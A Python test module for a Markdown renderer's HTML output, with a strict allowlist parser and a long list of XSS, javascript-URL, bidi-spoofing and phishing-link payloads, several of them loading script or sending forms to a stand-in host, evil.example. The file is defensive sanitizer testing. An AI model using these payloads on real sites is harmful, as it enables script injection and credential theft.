"""Markdown that tries to become code, and a strict reader of what it became."""

import re
from html.parser import HTMLParser

TAGS = {
    *("a", "br", "code", "em", "input", "s", "span", "strong"),
    *("blockquote", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "p", "pre", "li", "ol", "ul"),
    *("table", "tbody", "td", "th", "thead", "tr"),
}
LINK = {"target": "_blank", "rel": "noopener noreferrer"}
VALUES = {
    ("input", "type"): r"checkbox",
    ("input", "disabled"): r"",
    ("input", "checked"): r"",
    ("input", "class"): r"task-list-item-checkbox",
    ("ul", "class"): r"contains-task-list",
    ("ol", "class"): r"contains-task-list",
    ("li", "class"): r"task-list-item",
    ("ol", "start"): r"[0-9]{1,9}",
    ("td", "align"): r"left|right|center",
    ("th", "align"): r"left|right|center",
    ("code", "class"): r"language-[a-z]+",
    ("span", "class"): r"[a-z0-9]{0,3}",
    ("a", "href"): r"(?:https?://[!-~]+|mailto:[!-~]+)",
    ("a", "target"): r"_blank",
    ("a", "rel"): r"noopener noreferrer",
}
DISGUISES = re.compile("[\u202a-\u202e\u2066-\u2069]")
INVISIBLE = re.compile("[\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]")


class Reader(HTMLParser):
    """Reads HTML as a page would, and fails on whatever is not on the list."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[str] = []
        self.text = ""
        self._in_link = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            pattern = VALUES.get((tag, name))
            assert pattern is not None, (tag, name, value)
            assert re.fullmatch(pattern, value or ""), (tag, name, value)
        if tag == "a":
            found = dict(attrs)
            assert {name: found.get(name) for name in LINK} == LINK
            self.links.extend(filter(None, [found.get("href")]))
            assert not self._in_link
        self._in_link = self._in_link or tag == "a"

    def handle_endtag(self, tag: str) -> None:
        assert tag in TAGS, tag
        self._in_link = self._in_link and tag != "a"

    def handle_data(self, data: str) -> None:
        assert not DISGUISES.search(data)
        assert not (self._in_link and INVISIBLE.search(data))
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)


def read(html: str) -> Reader:
    """Return the links and the text of safe HTML; fail on any other."""
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,x></object><embed src=x>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='x' onclick=alert(1)>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><input name=password type=password autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<div id=attributes class=admin name=body>x</div>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "</p></td></table></code></pre><script>alert(1)</script>",
    "<textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](data:image/png;base64,AAAA)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1) [y](ftp://a.example) [z](tel:1)",
    "[x](//evil.example) [y](/path) [z](#id) [w](?q)",
    "[x](https:evil.example) [y](https:/\\evil.example) [z](http:\\\\evil.example)",
    "[x](https://bank.example@evil.example/)",
    "[x](https://bank.example\\@evil.example/)",
    "[x](https://bank.example&#64;evil.example/)",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/'><script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x]: https://a.example "\\" onclick=alert(1) \\""\n\n[x] ![x]',
    "[x]: data:text/html,x\n\n![x][x]",
    "<javascript:alert(1)>",
    "<data:text/html,x> <vbscript:x> <JAVASCRIPT:x>",
    '<https://a.example/"onmouseover="alert(1)>',
    "<https://a.example/\u202emoc.knab>",
    '<x"onclick=alert(1)@a.example>',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif) ![y](data:image/gif;base64,AA)",
    '![" onerror="alert(1)](https://a.example/x.png)',
    "![<img src=x onerror=alert(1)>](https://a.example/x.png)",
    "![![x](https://a.example/1)](https://a.example/2)",
    "[![x](https://a.example/1)](https://a.example/2) [![x](javascript:1)](https://a.example)",
    "![[x](https://a.example/1)](https://a.example/2)",
    "[a [b](https://b.example) <https://c.example>](https://a.example)",
    "[**x\u202e\u2066y\u200b`z\u2060`**\U000e0041](https://a.example)",
    "[x&#x202e;&#8203;&zwj;](https://a.example)",
    "\u202etext\u2066 `code\u202d` &#x202e;\n\n    code\u202e",
    "[x](https://a.example/\u202e\u200b) [y](https://\u202ea.example)",
    "`<script>alert(1)</script>`",
    "``` \n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```python" onclick="alert(1)\nx = "</span><script>alert(1)</script>"\n```',
    "~~~html\n<script>alert(1)</script><!-- --><img src=x onerror=alert(1)>\n~~~",
    "```js admin danger\n'</script><script>alert(1)</script>'\n```",
    "```&quot;&gt;&lt;script&gt;\nx\n```",
    "    <script>alert(1)</script>",
    "|<script>alert(1)</script>|[x](javascript:1)|\n|:-|-:|\n|<img src=x onerror=1>|`</td>`|",
    "|a|\n|:-:|\n|</td></tr></table><script>alert(1)</script>|",
    "- [x] <img src=x onerror=alert(1)>\n- [ ] [x](javascript:1)\n  1. > <svg onload=1>",
    "> # <script>alert(1)</script>\n> - ![x](javascript:1)",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "&amp;lt;script&amp;gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\<script>alert(1)\\</script>",
    "*<b>*</b>**<i onclick=1>**~~<u>~~",
    "<scr\u202eipt>alert(1)</scr\u202eipt> &lt\u202e;script&gt;",
    "<scr【4:0†source】ipt>alert(1)</scr【4:0†source】ipt>",
    "[x](java【4:0†source】script:alert(1))",
    "\x00<script\x00>alert(1)</script>",
    "> " * 60 + "<script>alert(1)</script>",
    "*a **b " * 60 + "<script>" + "b** a*" * 60,
]
